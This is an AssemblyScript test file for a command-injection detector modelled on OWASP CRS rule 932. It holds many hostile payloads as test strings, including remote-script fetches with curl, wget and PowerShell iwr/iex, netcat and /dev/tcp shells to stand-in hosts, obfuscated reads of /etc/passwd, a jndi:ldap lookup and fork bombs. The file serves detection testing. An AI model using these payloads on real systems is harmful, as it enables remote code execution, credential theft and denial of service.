/// <reference types="assemblyscript/std/assembly/index" />
/// <reference types="@as-pect/assembly/types/as-pect.d" />
// attack.command_injection (CRS 932): shell command lines, shell-only expansions, cmd.exe and PowerShell.
import { AttackFindings, detectAttacks, ATTACK_COMMAND_INJECTION, SOURCE_QUERY, SOURCE_JSON } from "../../assembly/attack/index";
import { commandInjectionLevel } from "../../assembly/attack/command";
import { bytes, levelOf } from "./attack-helpers";
import { shellExpansionLevel } from "../../assembly/attack/command-shell";
import { powershellLevel, windowsBatchLevel } from "../../assembly/attack/command-win";
import { mailInjectionLevel } from "../../assembly/attack/command-mail";
import { restrictedUploadLevel, isUploadNameKey } from "../../assembly/attack/command-upload";

/** Lowest level at which the value (decoded like a JSON or query value) is a command injection, 0 if none. */
function level(s: string, source: i32 = SOURCE_JSON): i32 { return levelOf(s, ATTACK_COMMAND_INJECTION, source); }
function atL1(s: string, source: i32 = SOURCE_JSON): bool { return level(s, source) == 1; }
function raw(s: string): i32 { const b = bytes(s); return commandInjectionLevel(b, 0, b.length); }

describe("command words after shell separators", () => {
  test("separators, substitutions and obfuscated words", () => {
    expect(atL1("x; cat /etc/passwd")).toBe(true);
    expect(atL1("a | whoami")).toBe(true);
    expect(atL1("$(curl http://x/s.sh)")).toBe(true);
    expect(atL1("`id`")).toBe(true);
    expect(atL1(">(tee log)")).toBe(true);
    expect(atL1("x\nwget http://evil/x")).toBe(true);
    expect(atL1(";c''at /e't'c/pas's'wd")).toBe(true);
    expect(atL1("%3B%22rmt%22%20--version", SOURCE_QUERY)).toBe(true);
    expect(atL1("|$u wget test")).toBe(true);
    expect(atL1(";c89 -wrapper sh,-c,id .")).toBe(true);
    expect(atL1(";gcc10.1<<<void main(){}")).toBe(true);
    expect(atL1("cd /;cd etc;comm passwd passwd")).toBe(true);
    expect(atL1("time; ansible-playbook site.yml")).toBe(true);
  });
  test("a separator opening the value makes any command word a command", () => {
    expect(atL1(";ps")).toBe(true);
    expect(atL1(";env")).toBe(true);
    expect(atL1("';htop'")).toBe(true);
    expect(atL1("&aptitude")).toBe(true);
  });
  test("a lone & counts only when the command follows it directly", () => {
    expect(atL1("view=image.jpg&bcdboot < file.txt")).toBe(true);
    expect(atL1("Tom & Jerry; ping me later")).toBe(false);
    expect(atL1("R&D budget for AT&T and Q&A")).toBe(false);
    expect(atL1("a=1&cat=2&id=3")).toBe(false);
  });
  test("Windows tools after separators", () => {
    expect(atL1("; regedit /E c:\\ads\\file.txt:regfile.reg HKEY_CURRENT_USER\\MyKey")).toBe(true);
    expect(atL1(";iwr http://example.com/path/file.ps1")).toBe(true);
    expect(atL1(";iex (iwr http://10.0.10.10:8000/x.ps1)")).toBe(true);
  });
});

describe("a value that is a command line", () => {
  test("commands with shell arguments", () => {
    expect(atL1("cat /etc/passwd")).toBe(true);
    expect(atL1("ls -l /etc/passwd")).toBe(true);
    expect(atL1("/usr/bin/perl -e 'print readline' some-file.txt")).toBe(true);
    expect(atL1("/bin/gunzip -c /var/log/x.gz")).toBe(true);
    expect(atL1("powershell C:\\windows\\system32\\notepad.exe")).toBe(true);
    expect(atL1("ksh -c \"curl google.\"COM")).toBe(true);
    expect(atL1("bin/visudo")).toBe(true);
  });
  test("prefix words are judged by the command they run", () => {
    expect(atL1("time sh -c whoami")).toBe(true);
    expect(atL1("ti''me sh -c whoami")).toBe(true);
    expect(atL1("nohup ifconfig")).toBe(true);
    expect(atL1("strace sh -c whoami")).toBe(true);
    expect(atL1("Time is money")).toBe(false);
    expect(atL1("time to go home")).toBe(false);
  });
  test("tool names that are no prose word, and hyphenated tool families", () => {
    expect(atL1("cscli alerts list")).toBe(true);
    expect(atL1("'cscli' alerts list")).toBe(true);
    expect(atL1("ansible-vault decrypt secret")).toBe(true);
    expect(atL1("chef-client -t 1.1.1.1")).toBe(true);
    expect(atL1("aa-disable php-fpm")).toBe(true);
  });
  test("variables in command position", () => {
    expect(atL1("$SHELL -c \"echo hi\"")).toBe(true);
    expect(atL1("${SHELL} -c \"echo hi\"")).toBe(true);
    expect(atL1("$5 off your order")).toBe(false);
  });
  test("prose that starts with a command word stays below level 1", () => {
    expect(atL1("Mount Pleasant")).toBe(false);
    expect(atL1("curl supporter")).toBe(false);
    expect(atL1("Python is great")).toBe(false);
    expect(atL1("Ruby Smith")).toBe(false);
    expect(atL1("Sort /r/rust by new")).toBe(false);
    expect(atL1("Find me at the park")).toBe(false);
    expect(atL1("Set -up guide for new users")).toBe(false);
    expect(atL1("cats & dogs; fish & chips")).toBe(false);
    expect(atL1("more / less")).toBe(false);
    expect(atL1("Cut -off date is Friday")).toBe(false);
    expect(atL1("ls -la")).toBe(true);
    expect(atL1("sort -n -r data.txt")).toBe(true);
    expect(atL1("I'd like to update my order")).toBe(false);
    expect(atL1("OpenSSL, we believe that this does not require")).toBe(false);
    expect(atL1("In |Vim9| script the value is ignored")).toBe(false);
    expect(atL1("cp1250,latin1")).toBe(false);
    expect(atL1("Use the `$` command to move, or `0` to go back")).toBe(false);
    expect(atL1("id | name | email")).toBe(false);
    expect(atL1("| 1 | id | name |")).toBe(false);
    expect(atL1("x; id | nc evil 4444")).toBe(true);
    expect(atL1("yum, shred, reboot")).toBe(false);
    expect(level("id")).toBe(0);
    expect(level("ip")).toBe(0);
    expect(level("zip")).toBe(0);
    expect(level("grep")).toBe(4);
    expect(atL1("chef")).toBe(false);
  });
});

describe("shell-only expansions", () => {
  test("parameter expansion operators and arithmetic", () => {
    expect(atL1("${x#{}}")).toBe(true);
    expect(atL1("${PATH#{}/}")).toBe(true);
    expect(atL1("${:1337:-x$}{jndi:ldap://evil.com/x}")).toBe(true);
    expect(atL1("$(($() 42))")).toBe(true);
    expect(atL1("$[2+2]")).toBe(true);
    expect(atL1("$[]")).toBe(true);
    // template placeholders and JSONPath are not shell
    expect(atL1("Price: ${price}")).toBe(false);
    expect(level("${PORT:-8080}")).toBe(2);
    expect(atL1("${user.name}")).toBe(false);
    expect(atL1("$[0].name")).toBe(false);
    expect(atL1("$['store']['book']")).toBe(false);
  });
  test("globbing inside paths", () => {
    expect(atL1("/etc/pas[s]wd")).toBe(true);
    expect(atL1("/etc/%5B!q%5Dasswd", SOURCE_QUERY)).toBe(true);
    expect(atL1("/usr/[a-z]in/bash")).toBe(true);
    expect(atL1("/[e///]tc")).toBe(true);
    expect(atL1("cat /[?]tc/pa[?]swd")).toBe(true);
    expect(atL1("/bi[n]/bash")).toBe(true);
    expect(level("/???/??t /???/p??s??")).toBe(1); // the separator-free form: cat by wildcards
    expect(level("/???/b??h")).toBe(2);
    expect(level("https://example.com/?q=1")).toBe(0);
    expect(level("/?page=2&sort=asc")).toBe(0);
    // XPath predicates, array indexes and markdown links are not globs
    expect(atL1("/bookstore/book[price]")).toBe(false);
    expect(atL1("/items[0]/name")).toBe(false);
    expect(atL1("/[a-z]{1,5}/")).toBe(false);
    expect(atL1("/[a-z]+/")).toBe(false);
    expect(atL1("see [the docs](https://x.org/a)")).toBe(false);
  });
  test("brace expansion that spells a command", () => {
    expect(atL1("{l,-lh}s")).toBe(true);
    expect(atL1("c{a,oun}t")).toBe(true);
    expect(atL1("{,ip,a}")).toBe(true);
    expect(atL1("{,ifconfig,eth0}")).toBe(true);
    expect(atL1("{id,}")).toBe(true);
    expect(atL1("&#x7B;l,-lh&#x7D;s")).toBe(true);
    expect(atL1("{id,name,email}")).toBe(false);
    expect(atL1("src/**/*.{js,ts}")).toBe(false);
    expect(atL1("{a,b}")).toBe(false);
  });
  test("directory stack, history, Shellshock, alias", () => {
    expect(atL1("~+")).toBe(true);
    expect(atL1("~-1")).toBe(true);
    expect(atL1("!-1!-2")).toBe(true);
    expect(atL1("() { :; }; /bin/bash -c id")).toBe(true);
    expect(atL1("() {")).toBe(true);
    expect(atL1("alias eennvv=env&eennvv whoami")).toBe(true);
    expect(atL1("alias -p jzfrx=id")).toBe(true);
    expect(atL1("%61%6c%69%61%73%20%2b%6d%20%61%3d%62", SOURCE_QUERY)).toBe(true);
    expect(atL1("Hello!-1 point")).toBe(false);
    expect(atL1("My alias is Bob")).toBe(false);
    expect(atL1("function() { return 1; }")).toBe(false);
  });
  test("direct calls agree with the combined level", () => {
    const b = bytes("${x#y}");
    expect(shellExpansionLevel(b, 0, b.length)).toBe(1);
    expect(raw("${x#y}")).toBe(1);
  });
});

describe("obfuscation inside command words", () => {
  test("special parameters, empty substitutions, quotes", () => {
    expect(atL1("www.google.com;c$?at /etc/passwd")).toBe(true);
    expect(atL1("www.google.com;c%24%40at%2B%2Fet%24%40c%2Fpas%24%40swd", SOURCE_QUERY)).toBe(true);
    expect(atL1("una$$me -a")).toBe(true);
    expect(atL1("pi``ng 127.0.0.1")).toBe(true);
    expect(atL1("pi$()ng 127.0.0.1")).toBe(true);
    expect(atL1("a=nc&&$a -nlvp 555")).toBe(true);
    expect(atL1("exec 5<>/dev/tcp/8.8.8.8/80")).toBe(true);
    expect(level(";/bin/ca? /et*/passwd")).toBe(2);
    expect(atL1(";$a cat test.txt")).toBe(true);
    expect(atL1("\\ls")).toBe(true);
    expect(level(";vim dddd +silent\\ \\!whoami +wq")).toBe(2);
    expect(atL1("Hello!whoami")).toBe(false);
    expect(atL1(";+cat+/etc/passwd")).toBe(true);
    expect(level("The |-c| and |+cmd| arguments; see |+eval|")).toBe(0);
    expect(atL1("\\windows\\system32")).toBe(false);
    // one apostrophe is a contraction, not obfuscation
    expect(level("I'd like to update my order")).toBeGreaterThan(1);
    expect(atL1("don't stop me now")).toBe(false);
  });
  test("fork bombs and odd brace alternatives", () => {
    expect(atL1(":(){ :|:& };:")).toBe(true);
    expect(atL1("f(){ f|f& };f")).toBe(true);
    expect(level("{,echo,#test}")).toBe(1);
    expect(level("{/?s?/?i?/c?t,/e??/p??s??,}")).toBe(2);
    expect(level("~0")).toBe(2);
    expect(atL1("class A { m(){ return 1; } }")).toBe(false);
  });
});

describe("mail protocol commands after a line break (level 2)", () => {
  test("SMTP, IMAP, POP3", () => {
    expect(level("%0d%0aMAIL%20FROM%3A%3Ca%40b.com%3E", SOURCE_QUERY)).toBe(2);
    expect(level("x\r\nRCPT TO:<postmaster>")).toBe(2);
    expect(level("%0d%0aRETR%20123", SOURCE_QUERY)).toBe(2);
    expect(level("hello\r\nTOP 1 2")).toBe(2);
    expect(level("%0D%0Aa001%20STATUS%20INBOX%20(MESSAGES)", SOURCE_QUERY)).toBe(2);
    const b = bytes("a\nlist 3");
    expect(mailInjectionLevel(b, 0, b.length)).toBe(2);
    const c = bytes("list 3");
    expect(mailInjectionLevel(c, 0, c.length)).toBe(0); // opening the value: prose-like
    expect(level("List 3 things to bring")).toBe(0);
    expect(level("Top 10 movies of the year")).toBe(0);
    expect(level("18 CREATE GOLD")).toBe(0);
    expect(level("Meet at 10\nA1 sauce is great")).toBe(0);
  });
});

describe("cmd.exe and PowerShell", () => {
  test("IF comparisons and FOR loops", () => {
    expect(atL1("IF \"%~1\" == \"%~2\" (EXIT /B 0) ELSE (EXIT /B 1)")).toBe(true);
    expect(atL1("if [AA] == [AA] echo same")).toBe(true);
    expect(atL1("if not %1 == \"\" (")).toBe(true);
    expect(atL1("if/i a==b foo")).toBe(true);
    expect(atL1("IF        (2 GEQ 15)   echo \"bigger\"")).toBe(true);
    expect(atL1("for /f %i in ('dir') do echo %i")).toBe(true);
    // Python and prose
    expect(atL1("if x == 1: print(x)")).toBe(false);
    expect(atL1("if (a == b) { return; }")).toBe(false);
    expect(atL1("If you need more info, ask for it.")).toBe(false);
    const b = bytes("if exist c:\\x del c:\\x");
    expect(windowsBatchLevel(b, 0, b.length)).toBe(1);
  });
  test("PowerShell cmdlets", () => {
    expect(atL1("Invoke-WebRequest http://example.com/path/file.ps1")).toBe(true);
    expect(atL1("invoke-expression -command file.ps1")).toBe(true);
    expect(atL1("$c = New-Object Net.WebClient")).toBe(true);
    expect(atL1("let's get-together at the start-up")).toBe(false);
    expect(atL1("/blog/how-to-get-content-ideas")).toBe(false);
    const b = bytes("start-process calc.exe");
    expect(powershellLevel(b, 0, b.length)).toBe(1);
  });
});

function upload(key: string, name: string): i32 {
  const k = bytes(key), v = bytes(name);
  return restrictedUploadLevel(k, k.length, v, 0, v.length);
}

describe("restricted upload names (CRS 932180, needs the field name)", () => {
  test("configuration and code files as upload names", () => {
    expect(upload("filename", "wp-config.php")).toBe(1);
    expect(upload("x-filename", "wp-config-php.bak")).toBe(1);
    expect(upload("x-filename", "settings. php")).toBe(1);
    expect(upload("x_filename", "config.yml ")).toBe(1);
    expect(upload("filename", "../../.htaccess")).toBe(1);
    expect(upload("x-filename", ".boto")).toBe(1);
    expect(upload("x-filename", "mtrr")).toBe(1);
    expect(upload("filename", "photo.png")).toBe(0);
    expect(upload("filename", "acpi-notes.txt")).toBe(0);
    expect(upload("filename", "environment.txt")).toBe(0);
    // the same words in other fields are not uploads
    expect(upload("comment", "edit wp-config.php to set the salt")).toBe(0);
    const k = bytes("x-file-name");
    expect(isUploadNameKey(k, k.length)).toBe(true);
    expect(isUploadNameKey(k, 100)).toBe(true);
  });
});

describe("robustness", () => {
  test("truncated constructs at the end of the value never trap", () => {
    const cases = ["$", "${", "${x", "${x:", "$[", "$[1+", "[", "/a[", "/a[b", "{", "{a,", "c{a,b", "~", "~+", "!", "!-",
      "(", "() ", "alias", "alias ", "alias -p", "if", "if ", "if \"", "if (", "for", "for /f", "$u", "${u}", "time", "time ",
      "sudo -n", "|", "&", "&&", "`", "$(", ">(", "invoke-", "-"];
    for (let i = 0; i < cases.length; i++) { level(cases[i]); raw(cases[i]); }
    expect(true).toBe(true);
  });
  test("long runs of trigger bytes stay within the value", () => {
    let s = "";
    for (let i = 0; i < 2000; i++) s += "${[{~!-(;";
    const l = level(s);
    expect(l >= 0 && l <= 4).toBe(true);
    let t = "";
    for (let i = 0; i < 3000; i++) t += "a-";
    expect(atL1(t)).toBe(false);
    // bounded look-arounds: leading quotes before many separators, runs of '[' after a path, repeated FOR/IF heads
    let q = "";
    for (let i = 0; i < 4000; i++) q += "'";
    for (let i = 0; i < 4000; i++) q += ";";
    level(q);
    let r = "/a";
    for (let i = 0; i < 8000; i++) r += "[";
    expect(atL1(r)).toBe(false);
    let f = "";
    for (let i = 0; i < 3000; i++) f += "for /if (";
    level(f);
  });
});
